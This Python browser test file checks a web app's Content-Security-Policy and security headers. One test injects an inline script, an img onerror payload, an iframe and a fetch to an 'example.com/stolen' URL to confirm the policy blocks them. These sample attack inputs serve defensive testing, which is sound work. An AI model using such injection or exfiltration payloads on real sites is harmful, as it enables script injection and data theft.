"""The Content-Security-Policy: no page is hindered by it, and a foreign script is."""

from __future__ import annotations

import urllib.error
import urllib.request
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect
from visiting import settled

from core.web.site import SITE

pytestmark = pytest.mark.browser
SMALL = "epochs=3&hidden=4&window=6"
ASKED_FIRST = ("sweep", "compare", "arena", "pytorch")  # without a chart until something is asked, or at all
LISTEN = """
window.violations = []
document.addEventListener("securitypolicyviolation", (told) => window.violations.push(
    `${told.effectiveDirective}: ${told.blockedURI} ${told.sourceFile}:${told.lineNumber} ${told.sample}`))
"""


def listen(page: Page, errors: list[str]) -> None:
    page.add_init_script(LISTEN)
    page.on("pageerror", lambda error: errors.append(str(error)))


def still(page: Page) -> None:
    page.wait_for_selector("[data-testid='stApp'][data-test-script-state='notRunning']")
    expect(page.get_by_test_id("stSkeleton")).to_have_count(0)
    page.wait_for_timeout(500)


def test_no_page_is_hindered(site: str, visit: Callable[..., Page]) -> None:
    """Each with its finished run; the living cell and a film that plays included."""
    errors: list[str] = []
    views = [*(f"{name}?{SMALL}" for name in SITE), f"gates?view=cell&{SMALL}"]
    page = settled(visit(f"{site}/overview?{SMALL}", lambda page: listen(page, errors), bypass_csp=False))
    for view in views:
        page.goto(f"{site}/{view}")
        page.wait_for_selector("[data-testid='stApp'][data-test-connection-state='CONNECTED']")
        page.locator("[data-testid=stMain] h1").first.wait_for()
        if view.split("?")[0] not in ASKED_FIRST:
            page.locator("[data-testid=stMain] :is(.js-plotly-plot, .cell .picture)").first.wait_for()
        still(page)
        for button in page.locator(".updatemenu-button").all()[:1]:
            button.click()  # a film plays
            page.wait_for_timeout(300)
        assert page.evaluate("window.violations") == [], view
    assert page.locator(".st-key-living-cell .cell .picture").count()
    assert not errors


def test_a_script_that_was_not_ours_does_not_run(light_site: str, visit: Callable[..., Page]) -> None:
    page = visit(
        f"{light_site}/market",
        lambda page: page.add_init_script(LISTEN),
        bypass_csp=False,
    )
    still(page)
    page.evaluate(
        """async () => {
            const script = document.createElement("script")
            script.textContent = "window.ran = 'inline'"
            document.body.append(script)
            const holder = document.createElement("div")
            holder.innerHTML = `<img src="x:" onerror="window.ran = 'attribute'">`
            document.body.append(holder)
            const frame = document.createElement("iframe")
            frame.src = "https://example.com"
            document.body.append(frame)
            await fetch("https://example.com/stolen").catch(() => {})
        }"""
    )
    page.wait_for_function("window.violations.length >= 4")
    hindered = {told.split(":")[0] for told in page.evaluate("window.violations")}
    assert hindered >= {"script-src-elem", "script-src-attr", "frame-src", "connect-src"}
    assert page.evaluate("window.ran") is None


@pytest.mark.parametrize(("who", "older"), [("'self'", "SAMEORIGIN"), ("'none'", "DENY"), ("https://host.org", None)])
def test_who_may_embed_is_said_in_both_ways(serve: Callable[..., str], who: str, older: str | None) -> None:
    address = serve(GATESCOPE_WORKERS="0", GATESCOPE_AHEAD="0", GATESCOPE_FRAME_ANCESTORS=who)
    for path in ("", "/readyz", "/static/no-such-file"):
        try:
            answer = urllib.request.urlopen(f"{address}{path}")
        except urllib.error.HTTPError as refused:
            answer = refused
        assert f"frame-ancestors {who}" in answer.headers["Content-Security-Policy"]
        assert answer.headers["X-Frame-Options"] == older
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Referrer-Policy"]
        assert "camera=()" in answer.headers["Permissions-Policy"]
